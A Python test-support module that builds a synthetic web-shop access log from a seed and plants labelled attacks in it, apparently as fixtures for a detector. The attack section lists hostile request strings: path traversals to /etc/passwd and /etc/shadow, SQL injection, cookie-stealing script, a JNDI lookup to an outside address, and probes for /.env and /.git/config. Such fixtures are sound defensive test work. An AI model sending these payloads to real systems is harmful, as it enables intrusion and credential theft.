"""Test support: a day of a web shop's access log in the combined format, made up from a seed, and attacks in it.

Visitors come in sessions, mostly by day; each has a browser, follows links and fetches what a page needs. There are
crawlers, a monitor, old bookmarks (404), expired sessions (302), a few failures (500, 502), and every day brings
visitors, searches and browser versions that no day before had.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import NamedTuple

import numpy as np

FIRST_DAY = datetime(2026, 3, 2, tzinfo=UTC).timestamp()
DAY_SECONDS = 86_400

SYSTEMS = (
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "X11; Linux x86_64",
    "Linux; Android 14; K",
)
CHROME = "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36"
FIREFOX = "Mozilla/5.0 ({}; rv:{}.0) Gecko/20100101 Firefox/{}.0"
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS {}_{} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/{}.{} Mobile/15E148 Safari/604.1"
)
CRAWLERS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
)
MONITOR = "Uptime-Monitor/2.4 (+https://status.example.net)"
WORDS = (
    "lamp", "chair", "desk", "rug", "sofa", "shelf", "mirror", "clock", "vase", "frame", "blue", "red", "oak", "steel",
    "small", "large", "garden", "kitchen",
)  # fmt: skip
CATEGORIES = ("lighting", "seating", "tables", "storage", "textiles", "garden")
ASSETS = ("/static/app.3f9c2.js", "/static/style.77b1e.css", "/static/logo.svg", "/favicon.ico")
SITE = "https://shop.example.net"


class Hit(NamedTuple):
    """One line of the log; ``attack`` is the number of the attack that it belongs to, -1 for none."""

    time: float
    client: str
    method: str
    target: str
    status: int
    size: int
    referer: str
    agent: str
    attack: int = -1

    def line(self) -> str:
        moment = datetime.fromtimestamp(self.time, UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
        size = self.size or "-"
        return (
            f'{self.client} - - [{moment}] "{self.method} {self.target} HTTP/1.1" {self.status} {size} '
            f'"{self.referer}" "{self.agent}"\n'
        )


class Day:
    """One day of the shop; the same seed is the same shop, and the same day of it."""

    def __init__(self, seed: int, day: int) -> None:
        self._random = np.random.default_rng((seed, day))
        self._shop = np.random.default_rng(seed)
        self._begin = FIRST_DAY + day * DAY_SECONDS
        self._sizes = self._shop.lognormal(9.6, 0.35, 900)  # of each item's page, in bytes
        self._regulars = [_address(self._shop) for _ in range(400)]
        self._agents = {client: self._browser(self._shop) for client in self._regulars}

    def hits(self, count: int) -> list[Hit]:
        """``count`` benign requests in the order of time."""
        found: list[Hit] = []
        while len(found) < count:
            found += self._session()
        return sorted(found[:count])

    def _session(self) -> Iterator[Hit]:
        draw = self._random
        start = self._begin + self._hour() * 3600
        kind = draw.random()
        if kind < 0.03:
            yield from self._crawl(start)
        elif kind < 0.05:
            for beat in range(int(draw.integers(5, 12))):
                yield Hit(start + 300 * beat, "198.51.100.9", "GET", "/health", 200, 17, "-", MONITOR)
        else:
            yield from self._visit(start)

    def _visit(self, start: float) -> Iterator[Hit]:
        draw = self._random
        regular = draw.random() < 0.6
        client = self._regulars[int(draw.integers(len(self._regulars)))] if regular else _address(draw)
        agent = self._agents[client] if regular else self._browser(draw)
        referer = (
            "-" if draw.random() < 0.6 else str(draw.choice(["https://www.google.com/", "https://duckduckgo.com/"]))
        )
        warm, time = draw.random() < 0.4, start
        for number in range(1 + int(draw.geometric(0.2))):
            target, size = self._page(first=number == 0)
            method = "GET"
            status = self._status()
            if status == 302:
                target, size = f"/login?next={target.split('?')[0]}", 154
            elif status == 404:
                target, size = f"/old/{draw.integers(900)}.html", 1_530
            elif status >= 500:
                size = 534
            yield Hit(time, client, method, target, status, _around(size, draw), referer, agent)
            if number == 0:
                for asset in ASSETS:
                    sizes = {"js": 181_204, "css": 40_117, "svg": 3_412, "ico": 1_150}
                    code = 304 if warm else 200
                    size = 0 if warm else sizes[asset.rsplit(".", 1)[1]]
                    yield Hit(time + draw.uniform(0.1, 1.5), client, "GET", asset, code, size, SITE + target, agent)
            referer = SITE + target
            if draw.random() < 0.15:
                yield self._bought(time + draw.uniform(3, 9), client, referer, agent)
            time += 4 + draw.exponential(25)

    def _bought(self, time: float, client: str, referer: str, agent: str) -> Hit:
        draw = self._random
        target, size = [("/cart/items", 212), ("/login", 388), ("/checkout", 904)][
            int(draw.choice(3, p=[0.7, 0.2, 0.1]))
        ]
        status = int(draw.choice([200, 401])) if target == "/login" else 201
        return Hit(time, client, "POST", target, status, _around(size, draw), referer, agent)

    def _page(self, *, first: bool) -> tuple[str, float]:
        draw = self._random
        kind = float(draw.random())
        item = int(min(899, draw.zipf(1.3)))
        if first and kind < 0.4:
            return "/", 14_200
        if kind < 0.55:
            return f"/items/{item}", float(self._sizes[item])
        if kind < 0.75:
            page = int(draw.integers(1, 9))
            return f"/category/{draw.choice(CATEGORIES)}?page={page}&sort={draw.choice(['price', 'new'])}", 22_500
        if kind < 0.9:
            words = "+".join(draw.choice(WORDS, int(draw.integers(1, 4))))
            return f"/search?q={words}", 9_800 * float(draw.lognormal(0, 0.3))
        return str(draw.choice(["/about", "/contact", "/shipping", "/cart"])), 6_300

    def _status(self) -> int:
        return int(self._random.choice([200, 302, 404, 500, 502], p=[0.9542, 0.025, 0.019, 0.0012, 0.0006]))

    def _crawl(self, start: float) -> Iterator[Hit]:
        draw = self._random
        which = int(draw.integers(len(CRAWLERS)))
        for number in range(int(draw.integers(3, 25))):
            target, size = ("/robots.txt", 120) if number == 0 else self._page(first=False)
            yield Hit(
                start + 12 * number, f"66.249.{which + 64}.{draw.integers(250)}", "GET", target, 200,
                _around(size, draw), "-", CRAWLERS[which],
            )  # fmt: skip

    def _browser(self, draw: np.random.Generator) -> str:
        kind = draw.random()
        if kind < 0.6:
            return CHROME.format(SYSTEMS[int(draw.choice(4, p=[0.45, 0.2, 0.1, 0.25]))], 134 - int(draw.geometric(0.5)))
        if kind < 0.8:
            version = 137 - int(draw.geometric(0.5))
            return FIREFOX.format(SYSTEMS[int(draw.choice(3))], version, version)
        major, minor = 19 - int(draw.geometric(0.6)), int(draw.integers(0, 6))
        return IPHONE.format(major, minor, major, minor)

    def _hour(self) -> float:
        """Busiest in the afternoon."""
        while True:
            hour = float(self._random.uniform(0, 24))
            if self._random.random() < 0.55 - 0.45 * np.cos(2 * np.pi * (hour - 3) / 24):
                return min(hour, 23.5)


# -- attacks --------------------------------------------------------------------------------------------------------

TRAVERSALS = (
    "/static/../../../../etc/passwd", "/..%2f..%2f..%2fetc%2fshadow", "/download?file=....//....//etc/hosts",
    "/static/%2e%2e/%2e%2e/windows/win.ini", "/items/..%c0%af..%c0%afboot.ini",
)  # fmt: skip
INJECTIONS = (
    "/items/7%27%20UNION%20SELECT%20login,password%20FROM%20users--", "/search?q=%27%20OR%201%3D1--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/category/tables?page=1;WAITFOR%20DELAY%20%270:0:9%27",
    "/search?q=$%7Bjndi:ldap://198.51.100.66/a%7D",
)  # fmt: skip
SCANNERS = (
    "sqlmap/1.8.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.0 zgrab/0.x", "masscan/1.3",
)  # fmt: skip
OUTAGE = 60
"""Requests that fail in a row."""
PROBED = (
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/phpmyadmin/",
    "/server-status",
    "/backup.zip",
    "/admin/config.php",
)


@dataclass(frozen=True)
class Attack:
    """One attack: what it is, and its requests."""

    name: str
    hits: tuple[Hit, ...]


def attacked(seed: int, benign: list[Hit]) -> tuple[list[Hit], list[Attack]]:
    """A day with twenty attacks among its requests, four of each kind; as many requests as ``benign`` has.

    Whoever tries traversals tries injections minutes later: these are of four attackers. The others come alone. A burst
    of failures hits whoever is there, by day, and the answers are those of a proxy without its server.
    """
    random = np.random.default_rng((seed, 99))
    begin = benign[0].time // DAY_SECONDS * DAY_SECONDS
    by_day = 9 + random.permutation(10)
    hours = [*by_day[4:], *random.permutation([*range(1, 9), *range(19, 23)])][:12]
    slots = begin + 3600 * (np.array([*hours[:8], *by_day[:4], *hours[8:]]) + random.uniform(0.1, 0.7, 16))
    made: list[Attack] = []
    for number, slot in enumerate(slots.tolist()):
        kind, at = divmod(number, 4)
        client = _address(random)
        if kind == 0:
            made.append(_probes("traversal", slot, client, TRAVERSALS, 404, random))
            made.append(_probes("injection", slot + random.uniform(60, 200), client, INJECTIONS, 200, random))
        elif kind == 1:
            made.append(
                _probes(f"scanner {SCANNERS[at].split('/')[0]}", slot, client, PROBED, 404, random, SCANNERS[at])
            )
        elif kind == 2:
            made.append(_outage(slot, benign, random))
        else:
            made.append(_huge(slot, client, random))
    attacks = [
        Attack(attack.name, tuple(hit._replace(attack=number) for hit in attack.hits))
        for number, attack in enumerate(made)
    ]
    planted = [hit for attack in attacks for hit in attack.hits]
    failed = {(hit.time, hit.client, hit.target) for hit in planted}
    spared = [hit for hit in benign if (hit.time, hit.client, hit.target) not in failed]
    kept = random.permutation(len(spared))[: len(benign) - len(planted)]
    return sorted([*(spared[row] for row in kept.tolist()), *planted]), attacks


def _probes(
    name: str, start: float, client: str, targets: tuple[str, ...], status: int, random: np.random.Generator,
    agent: str = CHROME.format(SYSTEMS[0], 133),
) -> Attack:  # fmt: skip
    count = int(random.integers(2, len(targets) + 1))
    chosen = random.permutation(len(targets))[:count].tolist()
    sizes = random.integers(900, 1600, count).tolist()
    times = start + np.cumsum(random.uniform(0.2, 6, count))
    return Attack(
        name,
        tuple(
            Hit(time, client, "GET", targets[which], status, size, "-", agent)
            for time, which, size in zip(times.tolist(), chosen, sizes, strict=True)
        ),
    )


def _outage(start: float, benign: list[Hit], random: np.random.Generator) -> Attack:
    """For some minutes whoever asks gets 503 or 504."""
    code = int(random.choice([503, 504]))
    hit_by = [hit for hit in benign if hit.time >= start][:OUTAGE]
    failed = (hit._replace(status=code, size=int(random.integers(190, 200))) for hit in hit_by)
    return Attack(f"burst of {code}", tuple(failed))


def _huge(start: float, client: str, random: np.random.Generator) -> Attack:
    target = str(random.choice(["/search?q=lamp", "/items/12", "/category/garden?page=1&sort=new"]))
    agent = CHROME.format(SYSTEMS[1], 132)
    return Attack(
        "huge body",
        tuple(
            Hit(start + 20 * number, client, "GET", target, 200, int(random.uniform(3e7, 9e8)), "-", agent)
            for number in range(int(random.integers(1, 4)))
        ),
    )


def _address(draw: np.random.Generator) -> str:
    return f"{draw.integers(11, 200)}.{draw.integers(256)}.{draw.integers(256)}.{draw.integers(1, 255)}"


def _around(size: float, draw: np.random.Generator) -> int:
    """The size with what a compressed answer varies by."""
    return int(size * draw.lognormal(0, 0.02))
